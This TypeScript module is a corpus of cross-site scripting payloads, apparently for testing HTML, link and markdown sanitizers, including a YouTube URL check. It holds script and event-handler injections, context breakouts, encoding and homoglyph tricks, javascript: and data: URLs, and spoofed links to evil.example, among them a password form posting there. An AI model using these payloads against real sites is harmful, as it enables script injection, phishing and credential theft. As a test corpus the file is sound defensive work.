/** The function every payload calls when it runs. */
const call = 'alert(1)';

const elements = [
  `<script>${call}</script>`,
  `<script nonce="">${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script\x0c>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}" id=xss>`,
  `<img src="javascript:${call}">`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>">`,
  `<math><mtext><mglyph><style><img src=x onerror=${call}>`,
  `<iframe src="javascript:${call}">`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data="javascript:${call}">`,
  `<object data=//evil.example>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<form action=//evil.example><input name=password>`,
  `<form><button formaction="javascript:${call}">x`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<div onpointerover=${call} id=xss>x</div>`,
  `<div style="animation-name:x" onanimationstart=${call}>`,
  `<div style="position:fixed;inset:0" id=xss>`,
  `<style>@import '//evil.example';</style>`,
  `<a href="javascript:${call}" id=xss>x</a>`,
  `<a href="data:text/html,<script>${call}</script>" id=xss>x</a>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];

/** Ways out of what a text may stand in: an attribute, a script, a style, a title, a comment, JSON. */
const waysOut = [
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</pre>',
  '-->',
  '</ScRiPt >',
  '\\"></script>',
  '\u2028</script>',
];

const attributes = [
  `" onmouseover=${call} x="`,
  `' onmouseover=${call} x='`,
  `" autofocus onfocus=${call} x="`,
  `" onfocus=${call} autofocus id=xss "`,
  `x" style="x:expression(${call})`,
];

const scripts = [
  `";${call};//`,
  `\\";${call};//`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `\u2028${call}//`,
  `"});${call};({"`,
  `"]\\n");${call}//`,
  `__proto__`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `{"$$typeof":"react.element","type":"script"}`,
];

const encoded = [
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#x3c;img src=x onerror=${call}&#x3e;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `＜script＞${call}＜/script＞`,
  `\u202e>tpircs/<${call}>tpircs<`,
  `<scr\u0000ipt>${call}</script>`.replace('\u0000', '\ufffd'),
  `<s\u200bcript>${call}</script>`,
];

/** Addresses that run, or lead elsewhere, where a link is made of them. */
export const hostileAddresses = [
  `javascript:${call}`,
  `java\tscript:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `javascript://%0a${call}`,
  `javascript://youtube.com/%0a${call}`,
  `javascript&colon;${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `//evil.example/youtube.com/watch?v=x`,
  `https://evil.example/?https://www.youtube.com/watch?v=x`,
  `https://youtube.com.evil.example/watch?v=x`,
  `https://www.youtube.com@evil.example/watch?v=x`,
  `https://www.youtube.com\\@evil.example/`,
  `https://evilyoutube.com/watch?v=x`,
  `https://youtu.be.evil.example/x`,
  `https://www.youtubе.com/watch?v=x`,
  `https://www。youtube。com.evil.example/x`,
  `https:\\\\www.youtube.com\\watch?v=x`,
  `https://www.youtube.com/watch?v=x"><script>${call}</script>`,
  `https://www.youtube.com/watch?v=x' onclick=${call}`,
  `https://www.youtube.com/watch?v=x <img src=x>`,
  `https://www.youtube.com/`,
];

const markdown = [
  ...hostileAddresses.slice(0, 18).map((address) => `[xss](${address})`),
  `[xss](<javascript:${call}>)`,
  `![x](javascript:${call})`,
  `![x](https://evil.example/pixel.png)`,
  `<javascript:${call}>`,
  `[x]: javascript:${call}\n[x]`,
  `[xss](https://evil.example "onmouseover=${call}")`,
  `\`\`\`html\n<script>${call}</script>\n\`\`\``,
  `**<img src=x onerror=${call}>**`,
  `<!--><img src=x onerror=${call}>-->`,
];

/** Texts, one of a kind, that run in a page that does not know them for texts. */
export const payloads: readonly string[] = [
  ...elements,
  ...waysOut.flatMap((way) => [`${way}<img src=x onerror=${call}>`, `${way}<script>${call}</script>`]),
  ...attributes,
  ...scripts,
  ...encoded,
  ...hostileAddresses,
  ...markdown,
];

/** The payloads put together to texts of at most so many letters; each is whole in one of them. */
export function packed(most: number, between = '\n'): string[] {
  const texts: string[] = [];
  let text = '';
  for (const payload of payloads) {
    if (text.length + between.length + payload.length > most) {
      texts.push(text);
      text = '';
    }
    text += text === '' ? payload : between + payload;
  }
  return [...texts, text];
}
